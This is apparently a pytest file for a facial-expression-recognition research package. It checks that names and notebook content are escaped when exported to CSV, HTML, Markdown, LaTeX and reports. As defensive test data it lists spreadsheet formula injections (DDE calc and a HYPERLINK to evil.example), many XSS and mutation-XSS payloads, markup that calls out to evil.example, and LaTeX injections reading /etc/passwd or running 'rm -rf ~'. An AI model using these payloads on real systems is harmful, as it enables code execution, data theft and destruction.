"""Names and captions that are programs elsewhere: escaped wherever a person opens what was written."""

import csv
import io
import json
import re
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
import yaml
from bs4 import BeautifulSoup
from PIL import Image

from fer_repro.errors import UserError
from fer_repro.figures.display import figure_html, say
from fer_repro.figures.exports import TablePart, as_csv, as_latex, write_formats
from fer_repro.figures.results import contact_sheet
from fer_repro.figures.style import png_bytes
from fer_repro.figures.tables import Column, as_html, as_markdown
from fer_repro.inference.cards import card
from fer_repro.inference.faces_in import read_boxes
from fer_repro.inference.journal import spreadsheet_cell, write_rows
from fer_repro.inference.spec import read_spec
from fer_repro.pipeline.record import keep_record
from fer_repro.report.story_html import make_safe, read_story

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "'onmouseover='x",
    "</td></table><h1>", "&lt;b&gt;", "a & b",
)  # fmt: skip
LINKS = (
    "[click](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "a | b",
    "a\\",
    "<b>",
    "a\nb\n\n# c",
)
LATEX = (
    r"\input{/etc/passwd}", r"\write18{rm -rf ~}", "100 % & $5_000 #1 {x} ~ ^", "a\n\n\\end{table}",
    r"\\", "a\rb",
)  # fmt: skip
COLUMNS = (Column("name", "Name"), Column("value", "Value", "number"))


def table(name):
    return pd.DataFrame({"name": [name], "value": [1.5]})


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_a_csv_is_a_formula(name):
    frame = table(name).rename(columns={"value": name})
    head, row = csv.reader(io.StringIO(as_csv(frame), newline=""))
    shown = "'" + name.replace("\r", " ")
    assert head == ["name", shown]
    assert row == [shown, "1.500000"]


@pytest.mark.parametrize("text", ["-1", "+2.5", "-1e-3", "-0.5 0.25 -1e-7", "happy", "a=b", "", "−1", "'=1"])
def test_numbers_and_other_texts_stay(text):
    assert next(csv.reader(io.StringIO(as_csv(table(text)).split("\n")[1]))) == [text, "1.500000"]


@pytest.mark.parametrize("name", [name for name in FORMULAS if name[0] in "=+-@"])
def test_predictions_of_an_image_with_a_formula_for_a_name(name, tmp_path):
    """The class is escaped; the path is another spelling of the same, and is found again."""
    name = Path(name).as_posix()
    spec = read_spec(json.dumps(SPEC | {"classes": [name, "sad"]}), "here")
    box = {"left": 1.0, "top": 2.0, "right": 3.0, "bottom": 4.0, "score": -1.5, "box": "tight"}
    row = {"source": name, "frame": None, "face": 0, **box, "prediction": name, "confidence": 0.5, "note": ""}
    write_rows(tmp_path / "found.csv", spec, iter([row]))
    written = pd.read_csv(tmp_path / "found.csv", keep_default_na=False, dtype=str).iloc[0]
    assert written["source"] == f"./{name}"
    assert written["prediction"] == f"'{name}"
    assert written["score"] == "-1.5"
    assert not [cell for cell in written if cell[:1] in ("=", "+", "@")]
    assert list(read_boxes(tmp_path / "found.csv")) == [(name, -1)]
    assert spreadsheet_cell("source", "photos/=1.png") == "photos/=1.png"


@pytest.mark.parametrize("name", MARKUP)
def test_html_shows_names_and_does_not_run_them(name):
    figure = contact_sheet(np.zeros((1, 4, 4), np.uint8), [name], columns=1)
    for markup in (
        as_html(table(name), (Column("name", name),), name),
        say(name).markup,
        figure_html(figure, name, name),
    ):
        soup = BeautifulSoup(markup, "html.parser")
        assert {tag.name for tag in soup.find_all(True)} <= {
            "table", "caption", "thead", "tbody", "tr", "th", "td", "p", "figure", "div", "img", "figcaption"
        }  # fmt: skip
        assert not [
            attribute for tag in soup.find_all(True) for attribute in tag.attrs if attribute[:2] == "on"
        ]
        assert name in soup.get_text() or name == soup.find("img")["alt"]


@pytest.mark.parametrize("name", [*LINKS, *MARKUP])
def test_markdown_shows_names_and_makes_no_links_or_tags(name):
    from nbconvert.filters import markdown2html

    text = as_markdown(table(name), COLUMNS, name)
    soup = BeautifulSoup(markdown2html(text), "html.parser")
    assert not soup.find_all(["img", "script", "b", "svg", "h1"])
    assert all(link["href"] == link.get_text() for link in soup.find_all("a"))  # an address, shown as it is
    (cell,) = [cell.get_text() for cell in soup.find_all("td") if not cell.get_text().startswith("1.")]
    assert " ".join(cell.split()) == " ".join(name.replace("&lt;", "<").replace("&gt;", ">").split())


@pytest.mark.parametrize("name", LATEX)
def test_latex_shows_names_and_runs_no_command(name):
    text = as_latex(table(name), COLUMNS, name)
    plain = re.sub(r"\\textbackslash\{\}|\\textasciitilde\{\}|\\textasciicircum\{\}|\\[&%$#_{}]", "", text)
    commands = set(re.findall(r"\\[a-zA-Z]+", plain))
    assert commands <= {
        "\\begin", "\\end", "\\centering", "\\caption", "\\toprule", "\\midrule", "\\bottomrule"
    }  # fmt: skip
    assert plain.count("\\end") == 2
    assert "\n\n" not in text
    assert not re.search(r"[%#$~^]", plain)


def test_five_formats_hold_every_name_once(tmp_path):
    for number, name in enumerate((*FORMULAS, *MARKUP, *LINKS, *LATEX)):
        base = tmp_path / str(number)
        parts = [TablePart(name, table(name), COLUMNS)]
        files = write_formats(base, table(name), parts, ("csv", "json", "md", "tex", "html"))
        assert len(files) == 5
        assert json.loads(files[1].read_text())[0]["name"] == name


@pytest.mark.filterwarnings("ignore:Glyph")  # the font that figures bring has no Chinese
@pytest.mark.parametrize("title", ["$x$", r"$\undefined{$", "$$", "a$b", "$", "名前", "a\nb", "<b>"])
def test_a_name_is_no_formula_in_a_figure(title):
    png = png_bytes(contact_sheet(np.zeros((1, 8, 8), np.uint8), [title], columns=1))
    with Image.open(io.BytesIO(png)) as image:
        assert image.size[0] > 10


@pytest.mark.parametrize("name", [*MARKUP, "![x](x.png)", "a | b"])
def test_a_model_card_shows_names_and_runs_nothing(name):
    from nbconvert.filters import markdown2html

    text = card(
        read_spec(json.dumps(SPEC | {"classes": [name, "sad"], "source": name, "dataset": name}), "here")
    )
    _, header, body = text.split("---\n", 2)
    assert yaml.safe_load(header)["model"]["classes"] == [name, "sad"]
    soup = BeautifulSoup(markdown2html(body), "html.parser")
    assert not soup.find_all(["script", "img", "svg"])
    assert len(soup.find_all("h1")) == 1


@pytest.mark.parametrize("name", ["../mine", "/tmp/mine", "a/b", "", ".", "..", ".git", "a\nb", "a b"])
def test_the_name_of_a_record_is_no_path(name, tmp_path):
    with pytest.raises(UserError, match=r"name of a record is .*: expected letters, digits"):
        keep_record(name, "synthetic", "rmn", project=tmp_path, records=tmp_path / "results/records")
    assert not any(tmp_path.iterdir())


DANGEROUS = {
    "a script": "<script>alert(1)</script>",
    "a handler": '<p onclick="alert(1)">x</p>',
    "an image elsewhere": '<img src="http://evil.example/x.png">',
    "an image with a handler": "<img src=x onerror=alert(1)>",
    "a frame": '<iframe src="http://evil.example"></iframe>',
    "a frame of text": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a drawing": '<svg onload="alert(1)"><use href="data:image/svg+xml,x"/></svg>',
    "an animated link": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "a script in no script": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "an image in a title": "<title><img src=x onerror=alert(1)></title>",
    "an image in a text field": "<textarea><img src=x onerror=alert(1)></textarea>",
    "formulas of another kind": "<math><table><style><img src=x onerror=alert(1)></style></table></math>",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a section": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "a link that runs": '<a href="javascript:alert(1)">x</a>',
    "a link that runs, spelt out": '<a href="&#106;avascript:alert(1)">x</a>',
    "a link that runs, with a blank": '<a href=" javascript:alert(1)">x</a>',
    "a link that tells": '<a href="#x" ping="http://evil.example">x</a>',
    "a form": '<form action="http://evil.example"><input name=x></form>',
    "a button": '<button formaction="javascript:alert(1)">x</button>',
    "a style that loads": '<p style="background: URL(http://evil.example/x.png)">x</p>',
    "a style that loads, spelt out": r'<p style="background: \75rl(http://evil.example/x.png)">x</p>',
    "a sheet": '<link rel=stylesheet href="http://evil.example/x.css"><style>@import "http://evil.example"</style>',
    "another base": '<base href="http://evil.example/">',
    "a video": '<video src="http://evil.example/x.mp4" poster="http://evil.example/x.png"></video>',
}


@pytest.mark.parametrize("case", DANGEROUS)
@pytest.mark.parametrize("kind", ["an output", "prose"])
def test_an_executed_notebook_brings_nothing_that_runs_or_loads(case, kind, tmp_path):
    markup = DANGEROUS[case]
    if kind == "prose":
        cell = nbformat.v4.new_markdown_cell(f"Before.\n\n{markup}\n\nAfter.")
    else:
        shown = nbformat.v4.new_output("display_data", {"text/html": f"<p>Before.</p>{markup}<p>After.</p>"})
        cell = nbformat.v4.new_code_cell("1", outputs=[shown])
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Title"), cell])
    nbformat.write(notebook, tmp_path / "story.ipynb")
    html = read_story(tmp_path / "story.ipynb").html
    assert "Before." in html
    assert not re.search(
        r"<script|<svg|<math|<iframe|<noscript|<!|javascript:|<link|<base|<form\b|<style", html
    )
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        for name, value in tag.attrs.items():
            assert not name.startswith("on")
            assert "evil" not in str(value)


HIDDEN = {
    "Javascript": {"application/javascript": "alert(1)"},
    "a drawing": {"image/svg+xml": "<svg onload=alert(1)></svg>"},
    "a widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
    "PNG that is markup": {"image/png": '"><script>alert(1)</script>'},
    "text that is markup": {"text/plain": "<script>alert(1)</script>"},
    "Markdown that is markup": {"text/markdown": "<script>alert(1)</script> [x](javascript:alert(1))"},
    "LaTeX": {"text/latex": r"\href{javascript:alert(1)}{x} <script>alert(1)</script>"},
}


@pytest.mark.filterwarnings("ignore:Your element with mimetype")  # nbconvert, of the widget
@pytest.mark.parametrize("case", HIDDEN)
def test_an_output_of_another_kind_does_not_run(case, tmp_path):
    cell = nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("display_data", HIDDEN[case])])
    nbformat.write(nbformat.v4.new_notebook(cells=[cell]), tmp_path / "story.ipynb")
    soup = BeautifulSoup(read_story(tmp_path / "story.ipynb").html, "html.parser")
    assert not soup.find_all(["script", "svg", "iframe", "object"])
    assert not [name for tag in soup.find_all(True) for name in tag.attrs if name.startswith("on")]
    assert not [link for link in soup.find_all("a") if str(link.get("href", "")).startswith("javascript")]


def test_a_notebook_that_is_read_is_not_run(tmp_path):
    mark = tmp_path / "ran"
    cell = nbformat.v4.new_code_cell(f"open({str(mark)!r}, 'w')", metadata={"tags": ["parameters"]})
    notebook = nbformat.v4.new_notebook(
        cells=[cell], metadata={"kernelspec": {"name": "sh", "display_name": "sh"}}
    )
    nbformat.write(notebook, tmp_path / "story.ipynb")
    read_story(tmp_path / "story.ipynb")
    assert not mark.exists()


def test_what_is_harmless_stays():
    soup = BeautifulSoup(
        '<p class="said" style="text-align: right">x <a href="https://arxiv.org">y</a> <a href="#z">z</a></p>'
        '<img alt="a" src="data:image/png;base64,AA==">',
        "html.parser",
    )
    before = str(soup)
    make_safe(soup)
    assert str(soup) == before


SPEC = {
    "version": 1, "method": "rmn", "arm": "plain", "official": None, "task": "expression",
    "classes": ["happy", "sad"], "outputs": 2, "options": {"width": 8, "pretrained": False},
    "shows": "images", "regions": [], "image_size": 64, "face_size": 48, "colour": "grey", "crop": "square",
    "standardise": False, "dataset": "synthetic", "pretraining": "none", "source": "here", "threshold": None,
    "weights_sha256": "0",
}  # fmt: skip
